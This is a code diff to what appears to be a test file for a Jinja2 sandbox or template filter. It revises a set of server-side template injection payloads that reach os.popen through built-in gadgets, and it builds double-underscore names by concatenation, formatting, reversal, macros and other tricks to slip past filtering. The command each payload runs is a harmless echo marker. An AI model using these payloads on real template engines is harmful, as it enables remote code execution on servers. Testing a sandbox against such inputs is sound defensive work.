@@ -22,32 +22,32 @@ CMD = f"echo {MARK}"
 
 # name -> (template, verdict); {CMD} is the shell command each code-running template runs
 CODE = {
-    # a variable holding "_", joined at render time
-    "set-underscore-concat": """{% set u = "_" %}{{ cycler[u ~ u ~ "init" ~ u ~ u][u ~ u ~ "globals" ~ u ~ u].os.popen("CMD").read() }}""",
+    # a variable holding "_", joined at render time; the gadget renamed
+    "set-underscore-concat": """{% set c = cycler %}{% set u = "_" %}{{ c[u ~ u ~ "init" ~ u ~ u][u ~ u ~ "globals" ~ u ~ u].os.popen("CMD").read() }}""",
     # printf-style format builds the dunder
-    "format-percent-c": """{% set d = '%c%c'|format(95, 95) %}{{ joiner[d ~ 'init' ~ d][d ~ 'globals' ~ d]['os'].popen('CMD').read() }}""",
+    "format-percent-c": """{% set j = joiner %}{% set d = '%c%c'|format(95, 95) %}{{ j[d ~ 'init' ~ d][d ~ 'globals' ~ d]['os'].popen('CMD').read() }}""",
     # a list joined
-    "join-list": """{% set d = ['_', '_']|join %}{% set g = cycler[d + 'init' + d][d + 'globals' + d] %}{{ g.os.popen('CMD').read() }}""",
-    # the gadget renamed, names computed
+    "join-list": """{% set c = cycler %}{% set d = ['_', '_']|join %}{% set g = c[d + 'init' + d][d + 'globals' + d] %}{{ g.os.popen('CMD').read() }}""",
+    # the gadget renamed, names joined from pieces
     "renamed-gadget": """{% set c = cycler %}{% set u = '_' %}{% set i = [u, u, 'init', u, u]|join %}{% set g = [u, u, 'globals', u, u]|join %}{{ c[i][g]['os'].popen('CMD').read() }}""",
     # replace builds the name from harmless letters
     "replace-filter": """{% set n = namespace %}{% set i = 'xxinitxx'|replace('x', '_') %}{% set g = 'xxglobalsxx'|replace('x', '_') %}{{ n[i][g].os.popen('CMD').read() }}""",
     # reverse of a reversed name
-    "reverse-filter": """{% set i = 'xxtinixx'|reverse|replace('x', '_') %}{% set g = 'xxslabolgxx'|reverse|replace('x', '_') %}{{ lipsum[g]['os'].popen('CMD').read() }}""",
-    # the names arrive from a loop over computed strings
-    "loop-built-names": """{% set ns = namespace(p=[]) %}{% for w in ['init', 'globals'] %}{% set ns.p = ns.p + [('%c' % 95) * 2 ~ w ~ ('%c' % 95) * 2] %}{% endfor %}{{ cycler[ns.p[0]][ns.p[1]].os.popen('CMD').read() }}""",
+    "reverse-filter": """{% set c = cycler %}{% set i = 'xxtinixx'|reverse|replace('x', '_') %}{% set g = 'xxslabolgxx'|reverse|replace('x', '_') %}{{ c[i][g]['os'].popen('CMD').read() }}""",
+    # the names arrive through a namespace attribute set in a loop
+    "loop-built-names": """{% set c = cycler %}{% set ns = namespace(p=[]) %}{% for w in ['init', 'globals'] %}{% set ns.p = ns.p + [('%c' % 95) * 2 ~ w ~ ('%c' % 95) * 2] %}{% endfor %}{{ c[ns.p[0]][ns.p[1]].os.popen('CMD').read() }}""",
     # a macro returns the dunder
-    "macro-built-name": """{% macro d(w) %}{{ '_' ~ '_' ~ w ~ '_' ~ '_' }}{% endmacro %}{{ joiner[d('init')|trim][d('globals')|trim].os.popen('CMD').read() }}""",
+    "macro-built-name": """{% set j = joiner %}{% macro d(w, u) %}{{ u ~ u ~ w ~ u ~ u }}{% endmacro %}{{ j[d('init', '_')|trim][d('globals', '_')|trim].os.popen('CMD').read() }}""",
     # the attr filter fed a computed name, on an alias of a gadget
     "attr-computed": """{% set u = '_' * 2 %}{% set c = cycler %}{{ (c|attr(u ~ 'init' ~ u)|attr(u ~ 'globals' ~ u))['os'].popen('CMD').read() }}""",
     # a string method builds the name (format on a string object)
-    "str-format-method": """{% set d = '{0}{0}'.format('_') %}{{ cycler[d ~ 'init' ~ d][d ~ 'globals' ~ d].os.popen('CMD').read() }}""",
-    # the dunder is a dict key read back by a computed index
-    "dict-key-index": """{% set t = {'a': '_' ~ '_'} %}{% set k = 'a' %}{{ lipsum[t[k] ~ 'globals' ~ t[k]].os.popen('CMD').read() }}""",
-    # self's private context
-    "self-private": """{% set p = '_TemplateReference' ~ '_' ~ '_context' %}{{ self[p].environment.globals['cycler'].__init__.__globals__.os.popen('CMD').read() }}""",
-    # upper/lower of escapes split by concatenation
-    "lower-filter": """{% set u = '_' %}{% set g = (u ~ u ~ 'GLOBALS' ~ u ~ u)|lower %}{{ lipsum[g].os.popen('CMD').read() }}""",
+    "str-format-method": """{% set c = cycler %}{% set d = '{0}{0}'.format('_') %}{{ c[d ~ 'init' ~ d][d ~ 'globals' ~ d].os.popen('CMD').read() }}""",
+    # the underscore is a dict value read back by a computed key
+    "dict-key-index": """{% set c = cycler %}{% set t = {'a': '_'} %}{% set k = 'a' %}{% set d = t[k] ~ t[k] %}{{ c[d ~ 'init' ~ d][d ~ 'globals' ~ d].os.popen('CMD').read() }}""",
+    # self's private context, reached by a built name
+    "self-private": """{% set u = '_' %}{% set p = u ~ 'TemplateReference' ~ u ~ u ~ 'context' %}{{ self[p].environment.globals['cycler'][u ~ u ~ 'init' ~ u ~ u][u ~ u ~ 'globals' ~ u ~ u].os.popen('CMD').read() }}""",
+    # lower of an upper-case name
+    "lower-filter": """{% set c = cycler %}{% set u = '_' %}{% set i = (u ~ u ~ 'INIT' ~ u ~ u)|lower %}{% set g = (u ~ u ~ 'GLOBALS' ~ u ~ u)|lower %}{{ c[i][g].os.popen('CMD').read() }}""",
 }
 
 # memory exhaustion inside the sandbox: (template, small template to confirm, how to check)
